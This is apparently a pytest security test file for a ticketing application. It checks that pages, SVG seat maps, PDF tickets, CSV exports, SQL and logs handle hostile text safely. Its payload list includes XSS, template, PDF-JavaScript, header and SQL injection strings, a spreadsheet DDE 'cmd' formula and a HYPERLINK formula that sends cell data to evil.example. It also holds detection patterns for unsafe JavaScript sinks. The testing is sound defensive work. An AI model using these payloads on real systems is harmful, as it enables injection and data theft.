"""Texts of strangers where something else reads them: pages, pictures, paper, tables, logs, SQL."""

import ast
import csv
import io
import json
import re
import secrets
from pathlib import Path
from xml.etree import ElementTree

import pytest
from msgspec.structs import replace

from engine.plan_check import PlanError
from engine.plan_io import dump_plan, load_plan
from gateway import logs
from gateway.pages import WEB_DIR
from renderers import seatmap
from renderers.cells import plain_cell
from tests.actors.houses import small_plan
from tests.gateway.conftest import Running
from tests.gateway.test_http_orders import order_for
from tests.renderers import paper
from tests.security.endpoints import SETTINGS

ROOT = Path(__file__).parents[2]
PRODUCT = ("engine", "gateway", "console", "renderers", "persistence")
HOSTILE = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "]]></text><script>1</script>",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "%(title)s {title} %s {0.__class__}",
    "(a) Tj ET /JavaScript << /S /JavaScript /JS (app.alert(1)) >>",
    "\\(unbalanced\\ ) >> endobj",
    "a\r\nX-Injected: 1\r\n\r\n<html>",
    "\x1b]0;owned\x07\x1b[2J",
    "\u202egnp.exe\u2066",
    "'; DROP TABLE orders; --",
    '=HYPERLINK("http://evil.example?"&A1)',
)


# Pages -----------------------------------------------------------------------------------------


def test_no_page_makes_markup_of_a_text() -> None:
    """Texts become text nodes: nothing in the pages parses markup, and nothing runs a text."""
    forbidden = re.compile(
        r"\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|srcdoc)\b"
        r"|\beval\(|new Function\(|setTimeout\(\s*[\"'`]|createContextualFragment"
    )
    found = [
        f"{path.name}: {line.strip()}"
        for path in [*WEB_DIR.rglob("*.js"), *WEB_DIR.rglob("*.mjs"), *WEB_DIR.rglob("*.html")]
        if "vendor" not in path.parts
        for line in path.read_text(encoding="utf-8").splitlines()
        if forbidden.search(line)
    ]
    assert found == []


# Pictures --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_picture_of_a_plan_holds_texts_as_texts(text: str) -> None:
    plan = small_plan("AB", 4)
    plan = replace(
        plan,
        name=text,
        categories=tuple(replace(one, name=text) for one in plan.categories),
        sections=tuple(replace(one, name=text) for one in plan.sections),
        rows=tuple(replace(one, label=f"{text} {at}") for at, one in enumerate(plan.rows)),
    )
    try:
        plan = load_plan(dump_plan(plan))
    except PlanError as error:
        assert not text.isprintable() and "bad-text" in str(error)
        return
    drawn = ElementTree.fromstring(seatmap.svg(plan, title=plan.name))
    allowed = {"svg", "title", "rect", "g", "path", "circle", "text", "polygon", "line", "tspan"}
    for element in drawn.iter():
        assert element.tag.removeprefix("{http://www.w3.org/2000/svg}") in allowed
        assert not [name for name in element.attrib if name.startswith("on") or "href" in name]


# Paper -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
async def test_tickets_and_receipts_print_a_name_and_do_nothing_with_it(
    gateway: Running, text: str
) -> None:
    buyer = {"name": text, "email": "a@example.org", "language": "en"}
    body, token = await order_for(gateway, 5, buyer=buyer)
    await gateway.json("POST", "/api/orders", body, token, expect=201)
    path = f"/api/orders/{body['id']}"
    pay = {"method": "test_card", "attempt": "1"}
    paid = (await gateway.json("POST", f"{path}/pay", pay))["order"]
    assert paid["buyer"]["name"] == text, "kept as it was written, escaped where it is shown"
    for name in ("tickets.pdf", "receipt.pdf"):
        async with gateway.http.get(f"{path}/{name}") as answer:
            assert answer.status == 200 and "X-Injected" not in answer.headers
            assert re.fullmatch(
                r'inline; filename="[a-z]+-\d+\.pdf"', answer.headers["Content-Disposition"]
            )
            pdf = await answer.read()
        assert paper.pages(pdf) >= 1
        objects = re.sub(rb"stream\r?\n.*?endstream", b"", pdf, flags=re.DOTALL)
        assert b"/Catalog" in objects, "what a reader acts on stands outside of the streams"
        assert not re.search(rb"/(JavaScript|JS|OpenAction|Launch|URI|AA|Names)\b", objects)


# Tables ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1"],
)
def test_no_name_is_a_formula_to_a_spreadsheet(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([plain_cell(text), "plain"])
    (row,) = csv.reader(io.StringIO(written.getvalue()))
    assert row[0] == f"'{text}"


@pytest.mark.parametrize("text", ["", "Ada", "O'Brien", "Jean-Luc", "1,5", "a=b", "Lovelace, Ada"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert plain_cell(text) == text


def writers_of_tables() -> dict[Path, set[str]]:
    """Product modules that write CSV or spreadsheets, and the names that each imports."""
    found = {}
    for folder in PRODUCT:
        for path in (ROOT / folder).rglob("*.py"):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            names = set()
            for node in ast.walk(tree):
                if isinstance(node, ast.ImportFrom):
                    names |= {f"{node.module}.{alias.name}" for alias in node.names}
                elif isinstance(node, ast.Import):
                    names |= {alias.name for alias in node.names}
            calls = {
                node.func.attr
                for node in ast.walk(tree)
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
            }
            writes_csv = "csv" in names and calls & {"writer", "DictWriter"}
            if writes_csv or names & {"openpyxl", "xlsxwriter", "openpyxl.Workbook"}:
                found[path] = names
    return found


def test_every_module_that_writes_a_table_guards_its_cells() -> None:
    unguarded = [
        str(path.relative_to(ROOT))
        for path, names in writers_of_tables().items()
        if not any(name.startswith("renderers.cells") for name in names)
    ]
    assert unguarded == []


# SQL, templates, lines of a log ----------------------------------------------------------------


SQL = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|DROP|ALTER|TRUNCATE|COPY)\b")


def test_no_sql_is_put_together_from_texts() -> None:
    """Values are parameters. What a function formats into SQL is a constant of its module."""
    suspicious = []
    for path in (ROOT / "persistence").rglob("*.py"):
        functions = [
            node
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
        ]
        for node in (inner for function in functions for inner in ast.walk(function)):
            formatted = _formatted(node)
            if formatted and SQL.search(formatted[0]) and not all(map(str.isupper, formatted[1])):
                suspicious.append(f"{path.name}:{node.lineno} {formatted}")  # type: ignore[attr-defined]
    assert suspicious == []


def _formatted(node: ast.AST) -> tuple[str, list[str]] | None:
    """The fixed part of a text that is put together, and what is put into it."""
    if isinstance(node, ast.JoinedStr):
        fixed = [part.value for part in node.values if isinstance(part, ast.Constant)]
        holes = [
            ast.unparse(part.value) for part in node.values if isinstance(part, ast.FormattedValue)
        ]
        return "".join(map(str, fixed)), holes
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add | ast.Mod):
        fixed_side = [side for side in (node.left, node.right) if isinstance(side, ast.Constant)]
        return ("".join(str(side.value) for side in fixed_side), ["?"]) if fixed_side else None
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        if node.func.attr == "format" and isinstance(node.func.value, ast.Constant):
            return str(node.func.value.value), ["?"]
    return None


@pytest.mark.parametrize("text", HOSTILE)
async def test_searches_take_any_text(gateway: Running, text: str) -> None:
    cashier = await gateway.fake.operator_token("Ada", "cashier")
    for path in ("/api/sales", "/api/tickets"):
        params = {"q": text, "performance": "1"}
        async with gateway.http.get(
            path, params=params, headers={"Authorization": f"Bearer {cashier}"}
        ) as answer:
            assert answer.status == 200


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_makes_no_line_of_its_own_in_the_log(text: str) -> None:
    import structlog

    out = io.StringIO()
    saved = structlog.get_config()
    try:
        logs.configure(as_json=True, stream=out)
        structlog.get_logger("x").warning("said", text=text, more=secrets.token_hex(2))
    finally:
        structlog.configure(**saved)
    (line,) = out.getvalue().splitlines()
    assert "\x1b" not in line and json.loads(line)["event"] == "said"


# What no column can keep -------------------------------------------------------------------------


async def test_no_zero_character_reaches_a_table(gateway: Running) -> None:
    """One in a journal's batch would fail it again and again, one in an act would hide the act."""
    admin = await gateway.fake.operator_token("Ada", "admin")
    order, token = await order_for(gateway, 5, token=gateway.buyer_token())
    for place in ("name", "email"):
        body = order | {"buyer": order["buyer"] | {place: "a\0b"}}
        told = await gateway.json("POST", "/api/orders", body, token, expect=422)
        assert told["field"] == f"$.buyer.{place}"
    device = {"name": "door\0"}
    await gateway.json("POST", "/api/devices", device, admin, expect=422)
    login = {"name": "Ada\0", "password": "x"}
    await gateway.json("POST", "/api/login", login, expect=422)
    for address in ("/api/sales?q=a%00b", "/api/tickets?performance=1&q=%00", "/api/plans/%00"):
        await gateway.json("GET", address, token=admin, expect=400)
    socket = await gateway.socket(admin)
    for frame in (("block", b"i" * 16, 1, [9], [], "w\0hy"), ("scan", b"j" * 16, 1, "x", "g\0")):
        await socket.send(*frame)
        assert (await socket.next("error"))[1] == "malformed"
    assert not [entry for entry in gateway.fake.access.entries if entry.act == "block"]
    assert not gateway.fake.desk.orders.by_id


async def test_no_number_is_larger_than_every_reader_can_tell(gateway: Running) -> None:
    admin = await gateway.fake.operator_token("Ada", "admin")
    for number in (2**53 + 1, -(2**60), 2**64, 2**200):
        body = SETTINGS | {"hold_ms": number}
        told = await gateway.json("PUT", "/api/performances/1/settings", body, admin, expect=422)
        assert told["field"] == "$.hold_ms"
    order, token = await order_for(gateway, 5)
    for performance in (-1, 2**31, 2**40):
        basket = order["baskets"][0] | {"performance": performance}
        told = await gateway.json(
            "POST", "/api/orders", order | {"baskets": [basket]}, token, expect=422
        )
        assert told["field"] == "$.baskets[0].performance"
    body = {"production": 2**31, "plan": "0" * 64, "starts_ms": 0, "settings": SETTINGS}
    await gateway.json("POST", "/api/performances", body, admin, expect=422)
